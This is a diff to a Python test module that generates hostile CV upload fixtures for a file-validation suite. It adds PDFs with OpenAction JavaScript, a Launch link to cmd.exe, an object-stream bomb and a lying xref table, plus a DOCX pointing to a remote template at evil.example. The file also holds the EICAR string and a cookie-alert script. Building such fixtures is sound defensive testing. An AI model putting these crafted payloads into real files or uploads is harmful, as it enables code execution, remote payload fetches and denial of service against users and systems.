@@ -9,9 +9,11 @@ import struct
 import zipfile
 import zlib
 
+from tests.support.pdfs import classic_pdf, object_stream_pdf, plain_objects, plain_pdf
+
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 FIVE_MB = 5 * 1024 * 1024
-MINIMAL_PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+MINIMAL_PDF = plain_pdf()
 
 
 def _zip(entries: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
@@ -46,7 +48,23 @@ def _png(width: int, height: int) -> bytes:
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(row)) + chunk(b"IEND", b"")
 
 
+def _docx_with_remote_template() -> bytes:
+    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
+    template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    return _zip(
+        {
+            "[Content_Types].xml": b"<Types>application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+            b".main+xml</Types>",
+            "word/document.xml": b"<w/>",
+            "word/settings.xml": b"<w:settings><w:attachedTemplate r:id='rId1'/></w:settings>",
+            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{rels_ns}"><Relationship Id="rId1" '
+            f'Type="{template}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'.encode(),
+        }
+    )
+
+
 def hostile_cv_files() -> list[tuple[str, str, bytes]]:
+    open_js = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
     elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
     exe = b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0" + b"\0" * 200
     html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
@@ -100,6 +118,32 @@ def hostile_cv_files() -> list[tuple[str, str, bytes]]:
         ("valid PDF with .html name", "cv.html", MINIMAL_PDF),
         ("valid PDF with double extension .pdf.exe", "cv.pdf.exe", MINIMAL_PDF),
         ("RTF renamed .docx", "cv.docx", b"{\\rtf1\\ansi hello}"),
+        (
+            "PDF with OpenAction JavaScript in an object stream",
+            "cv.pdf",
+            object_stream_pdf(plain_objects(catalog=open_js)),
+        ),
+        (
+            "PDF with a Launch link in an object stream",
+            "cv.pdf",
+            object_stream_pdf(
+                plain_objects(
+                    page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+                    extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"],
+                )
+            ),
+        ),
+        (
+            "PDF object-stream bomb",
+            "cv.pdf",
+            object_stream_pdf(plain_objects(), stream_data=b"1 0 " + b" " * (64 * 1024 * 1024)),
+        ),
+        (
+            "PDF whose xref table lies",
+            "cv.pdf",
+            classic_pdf(plain_objects()).replace(b"0000000015 00000 n", b"0000000099 00000 n"),
+        ),
+        ("DOCX with a remote template", "cv.docx", _docx_with_remote_template()),
     ]
 
 
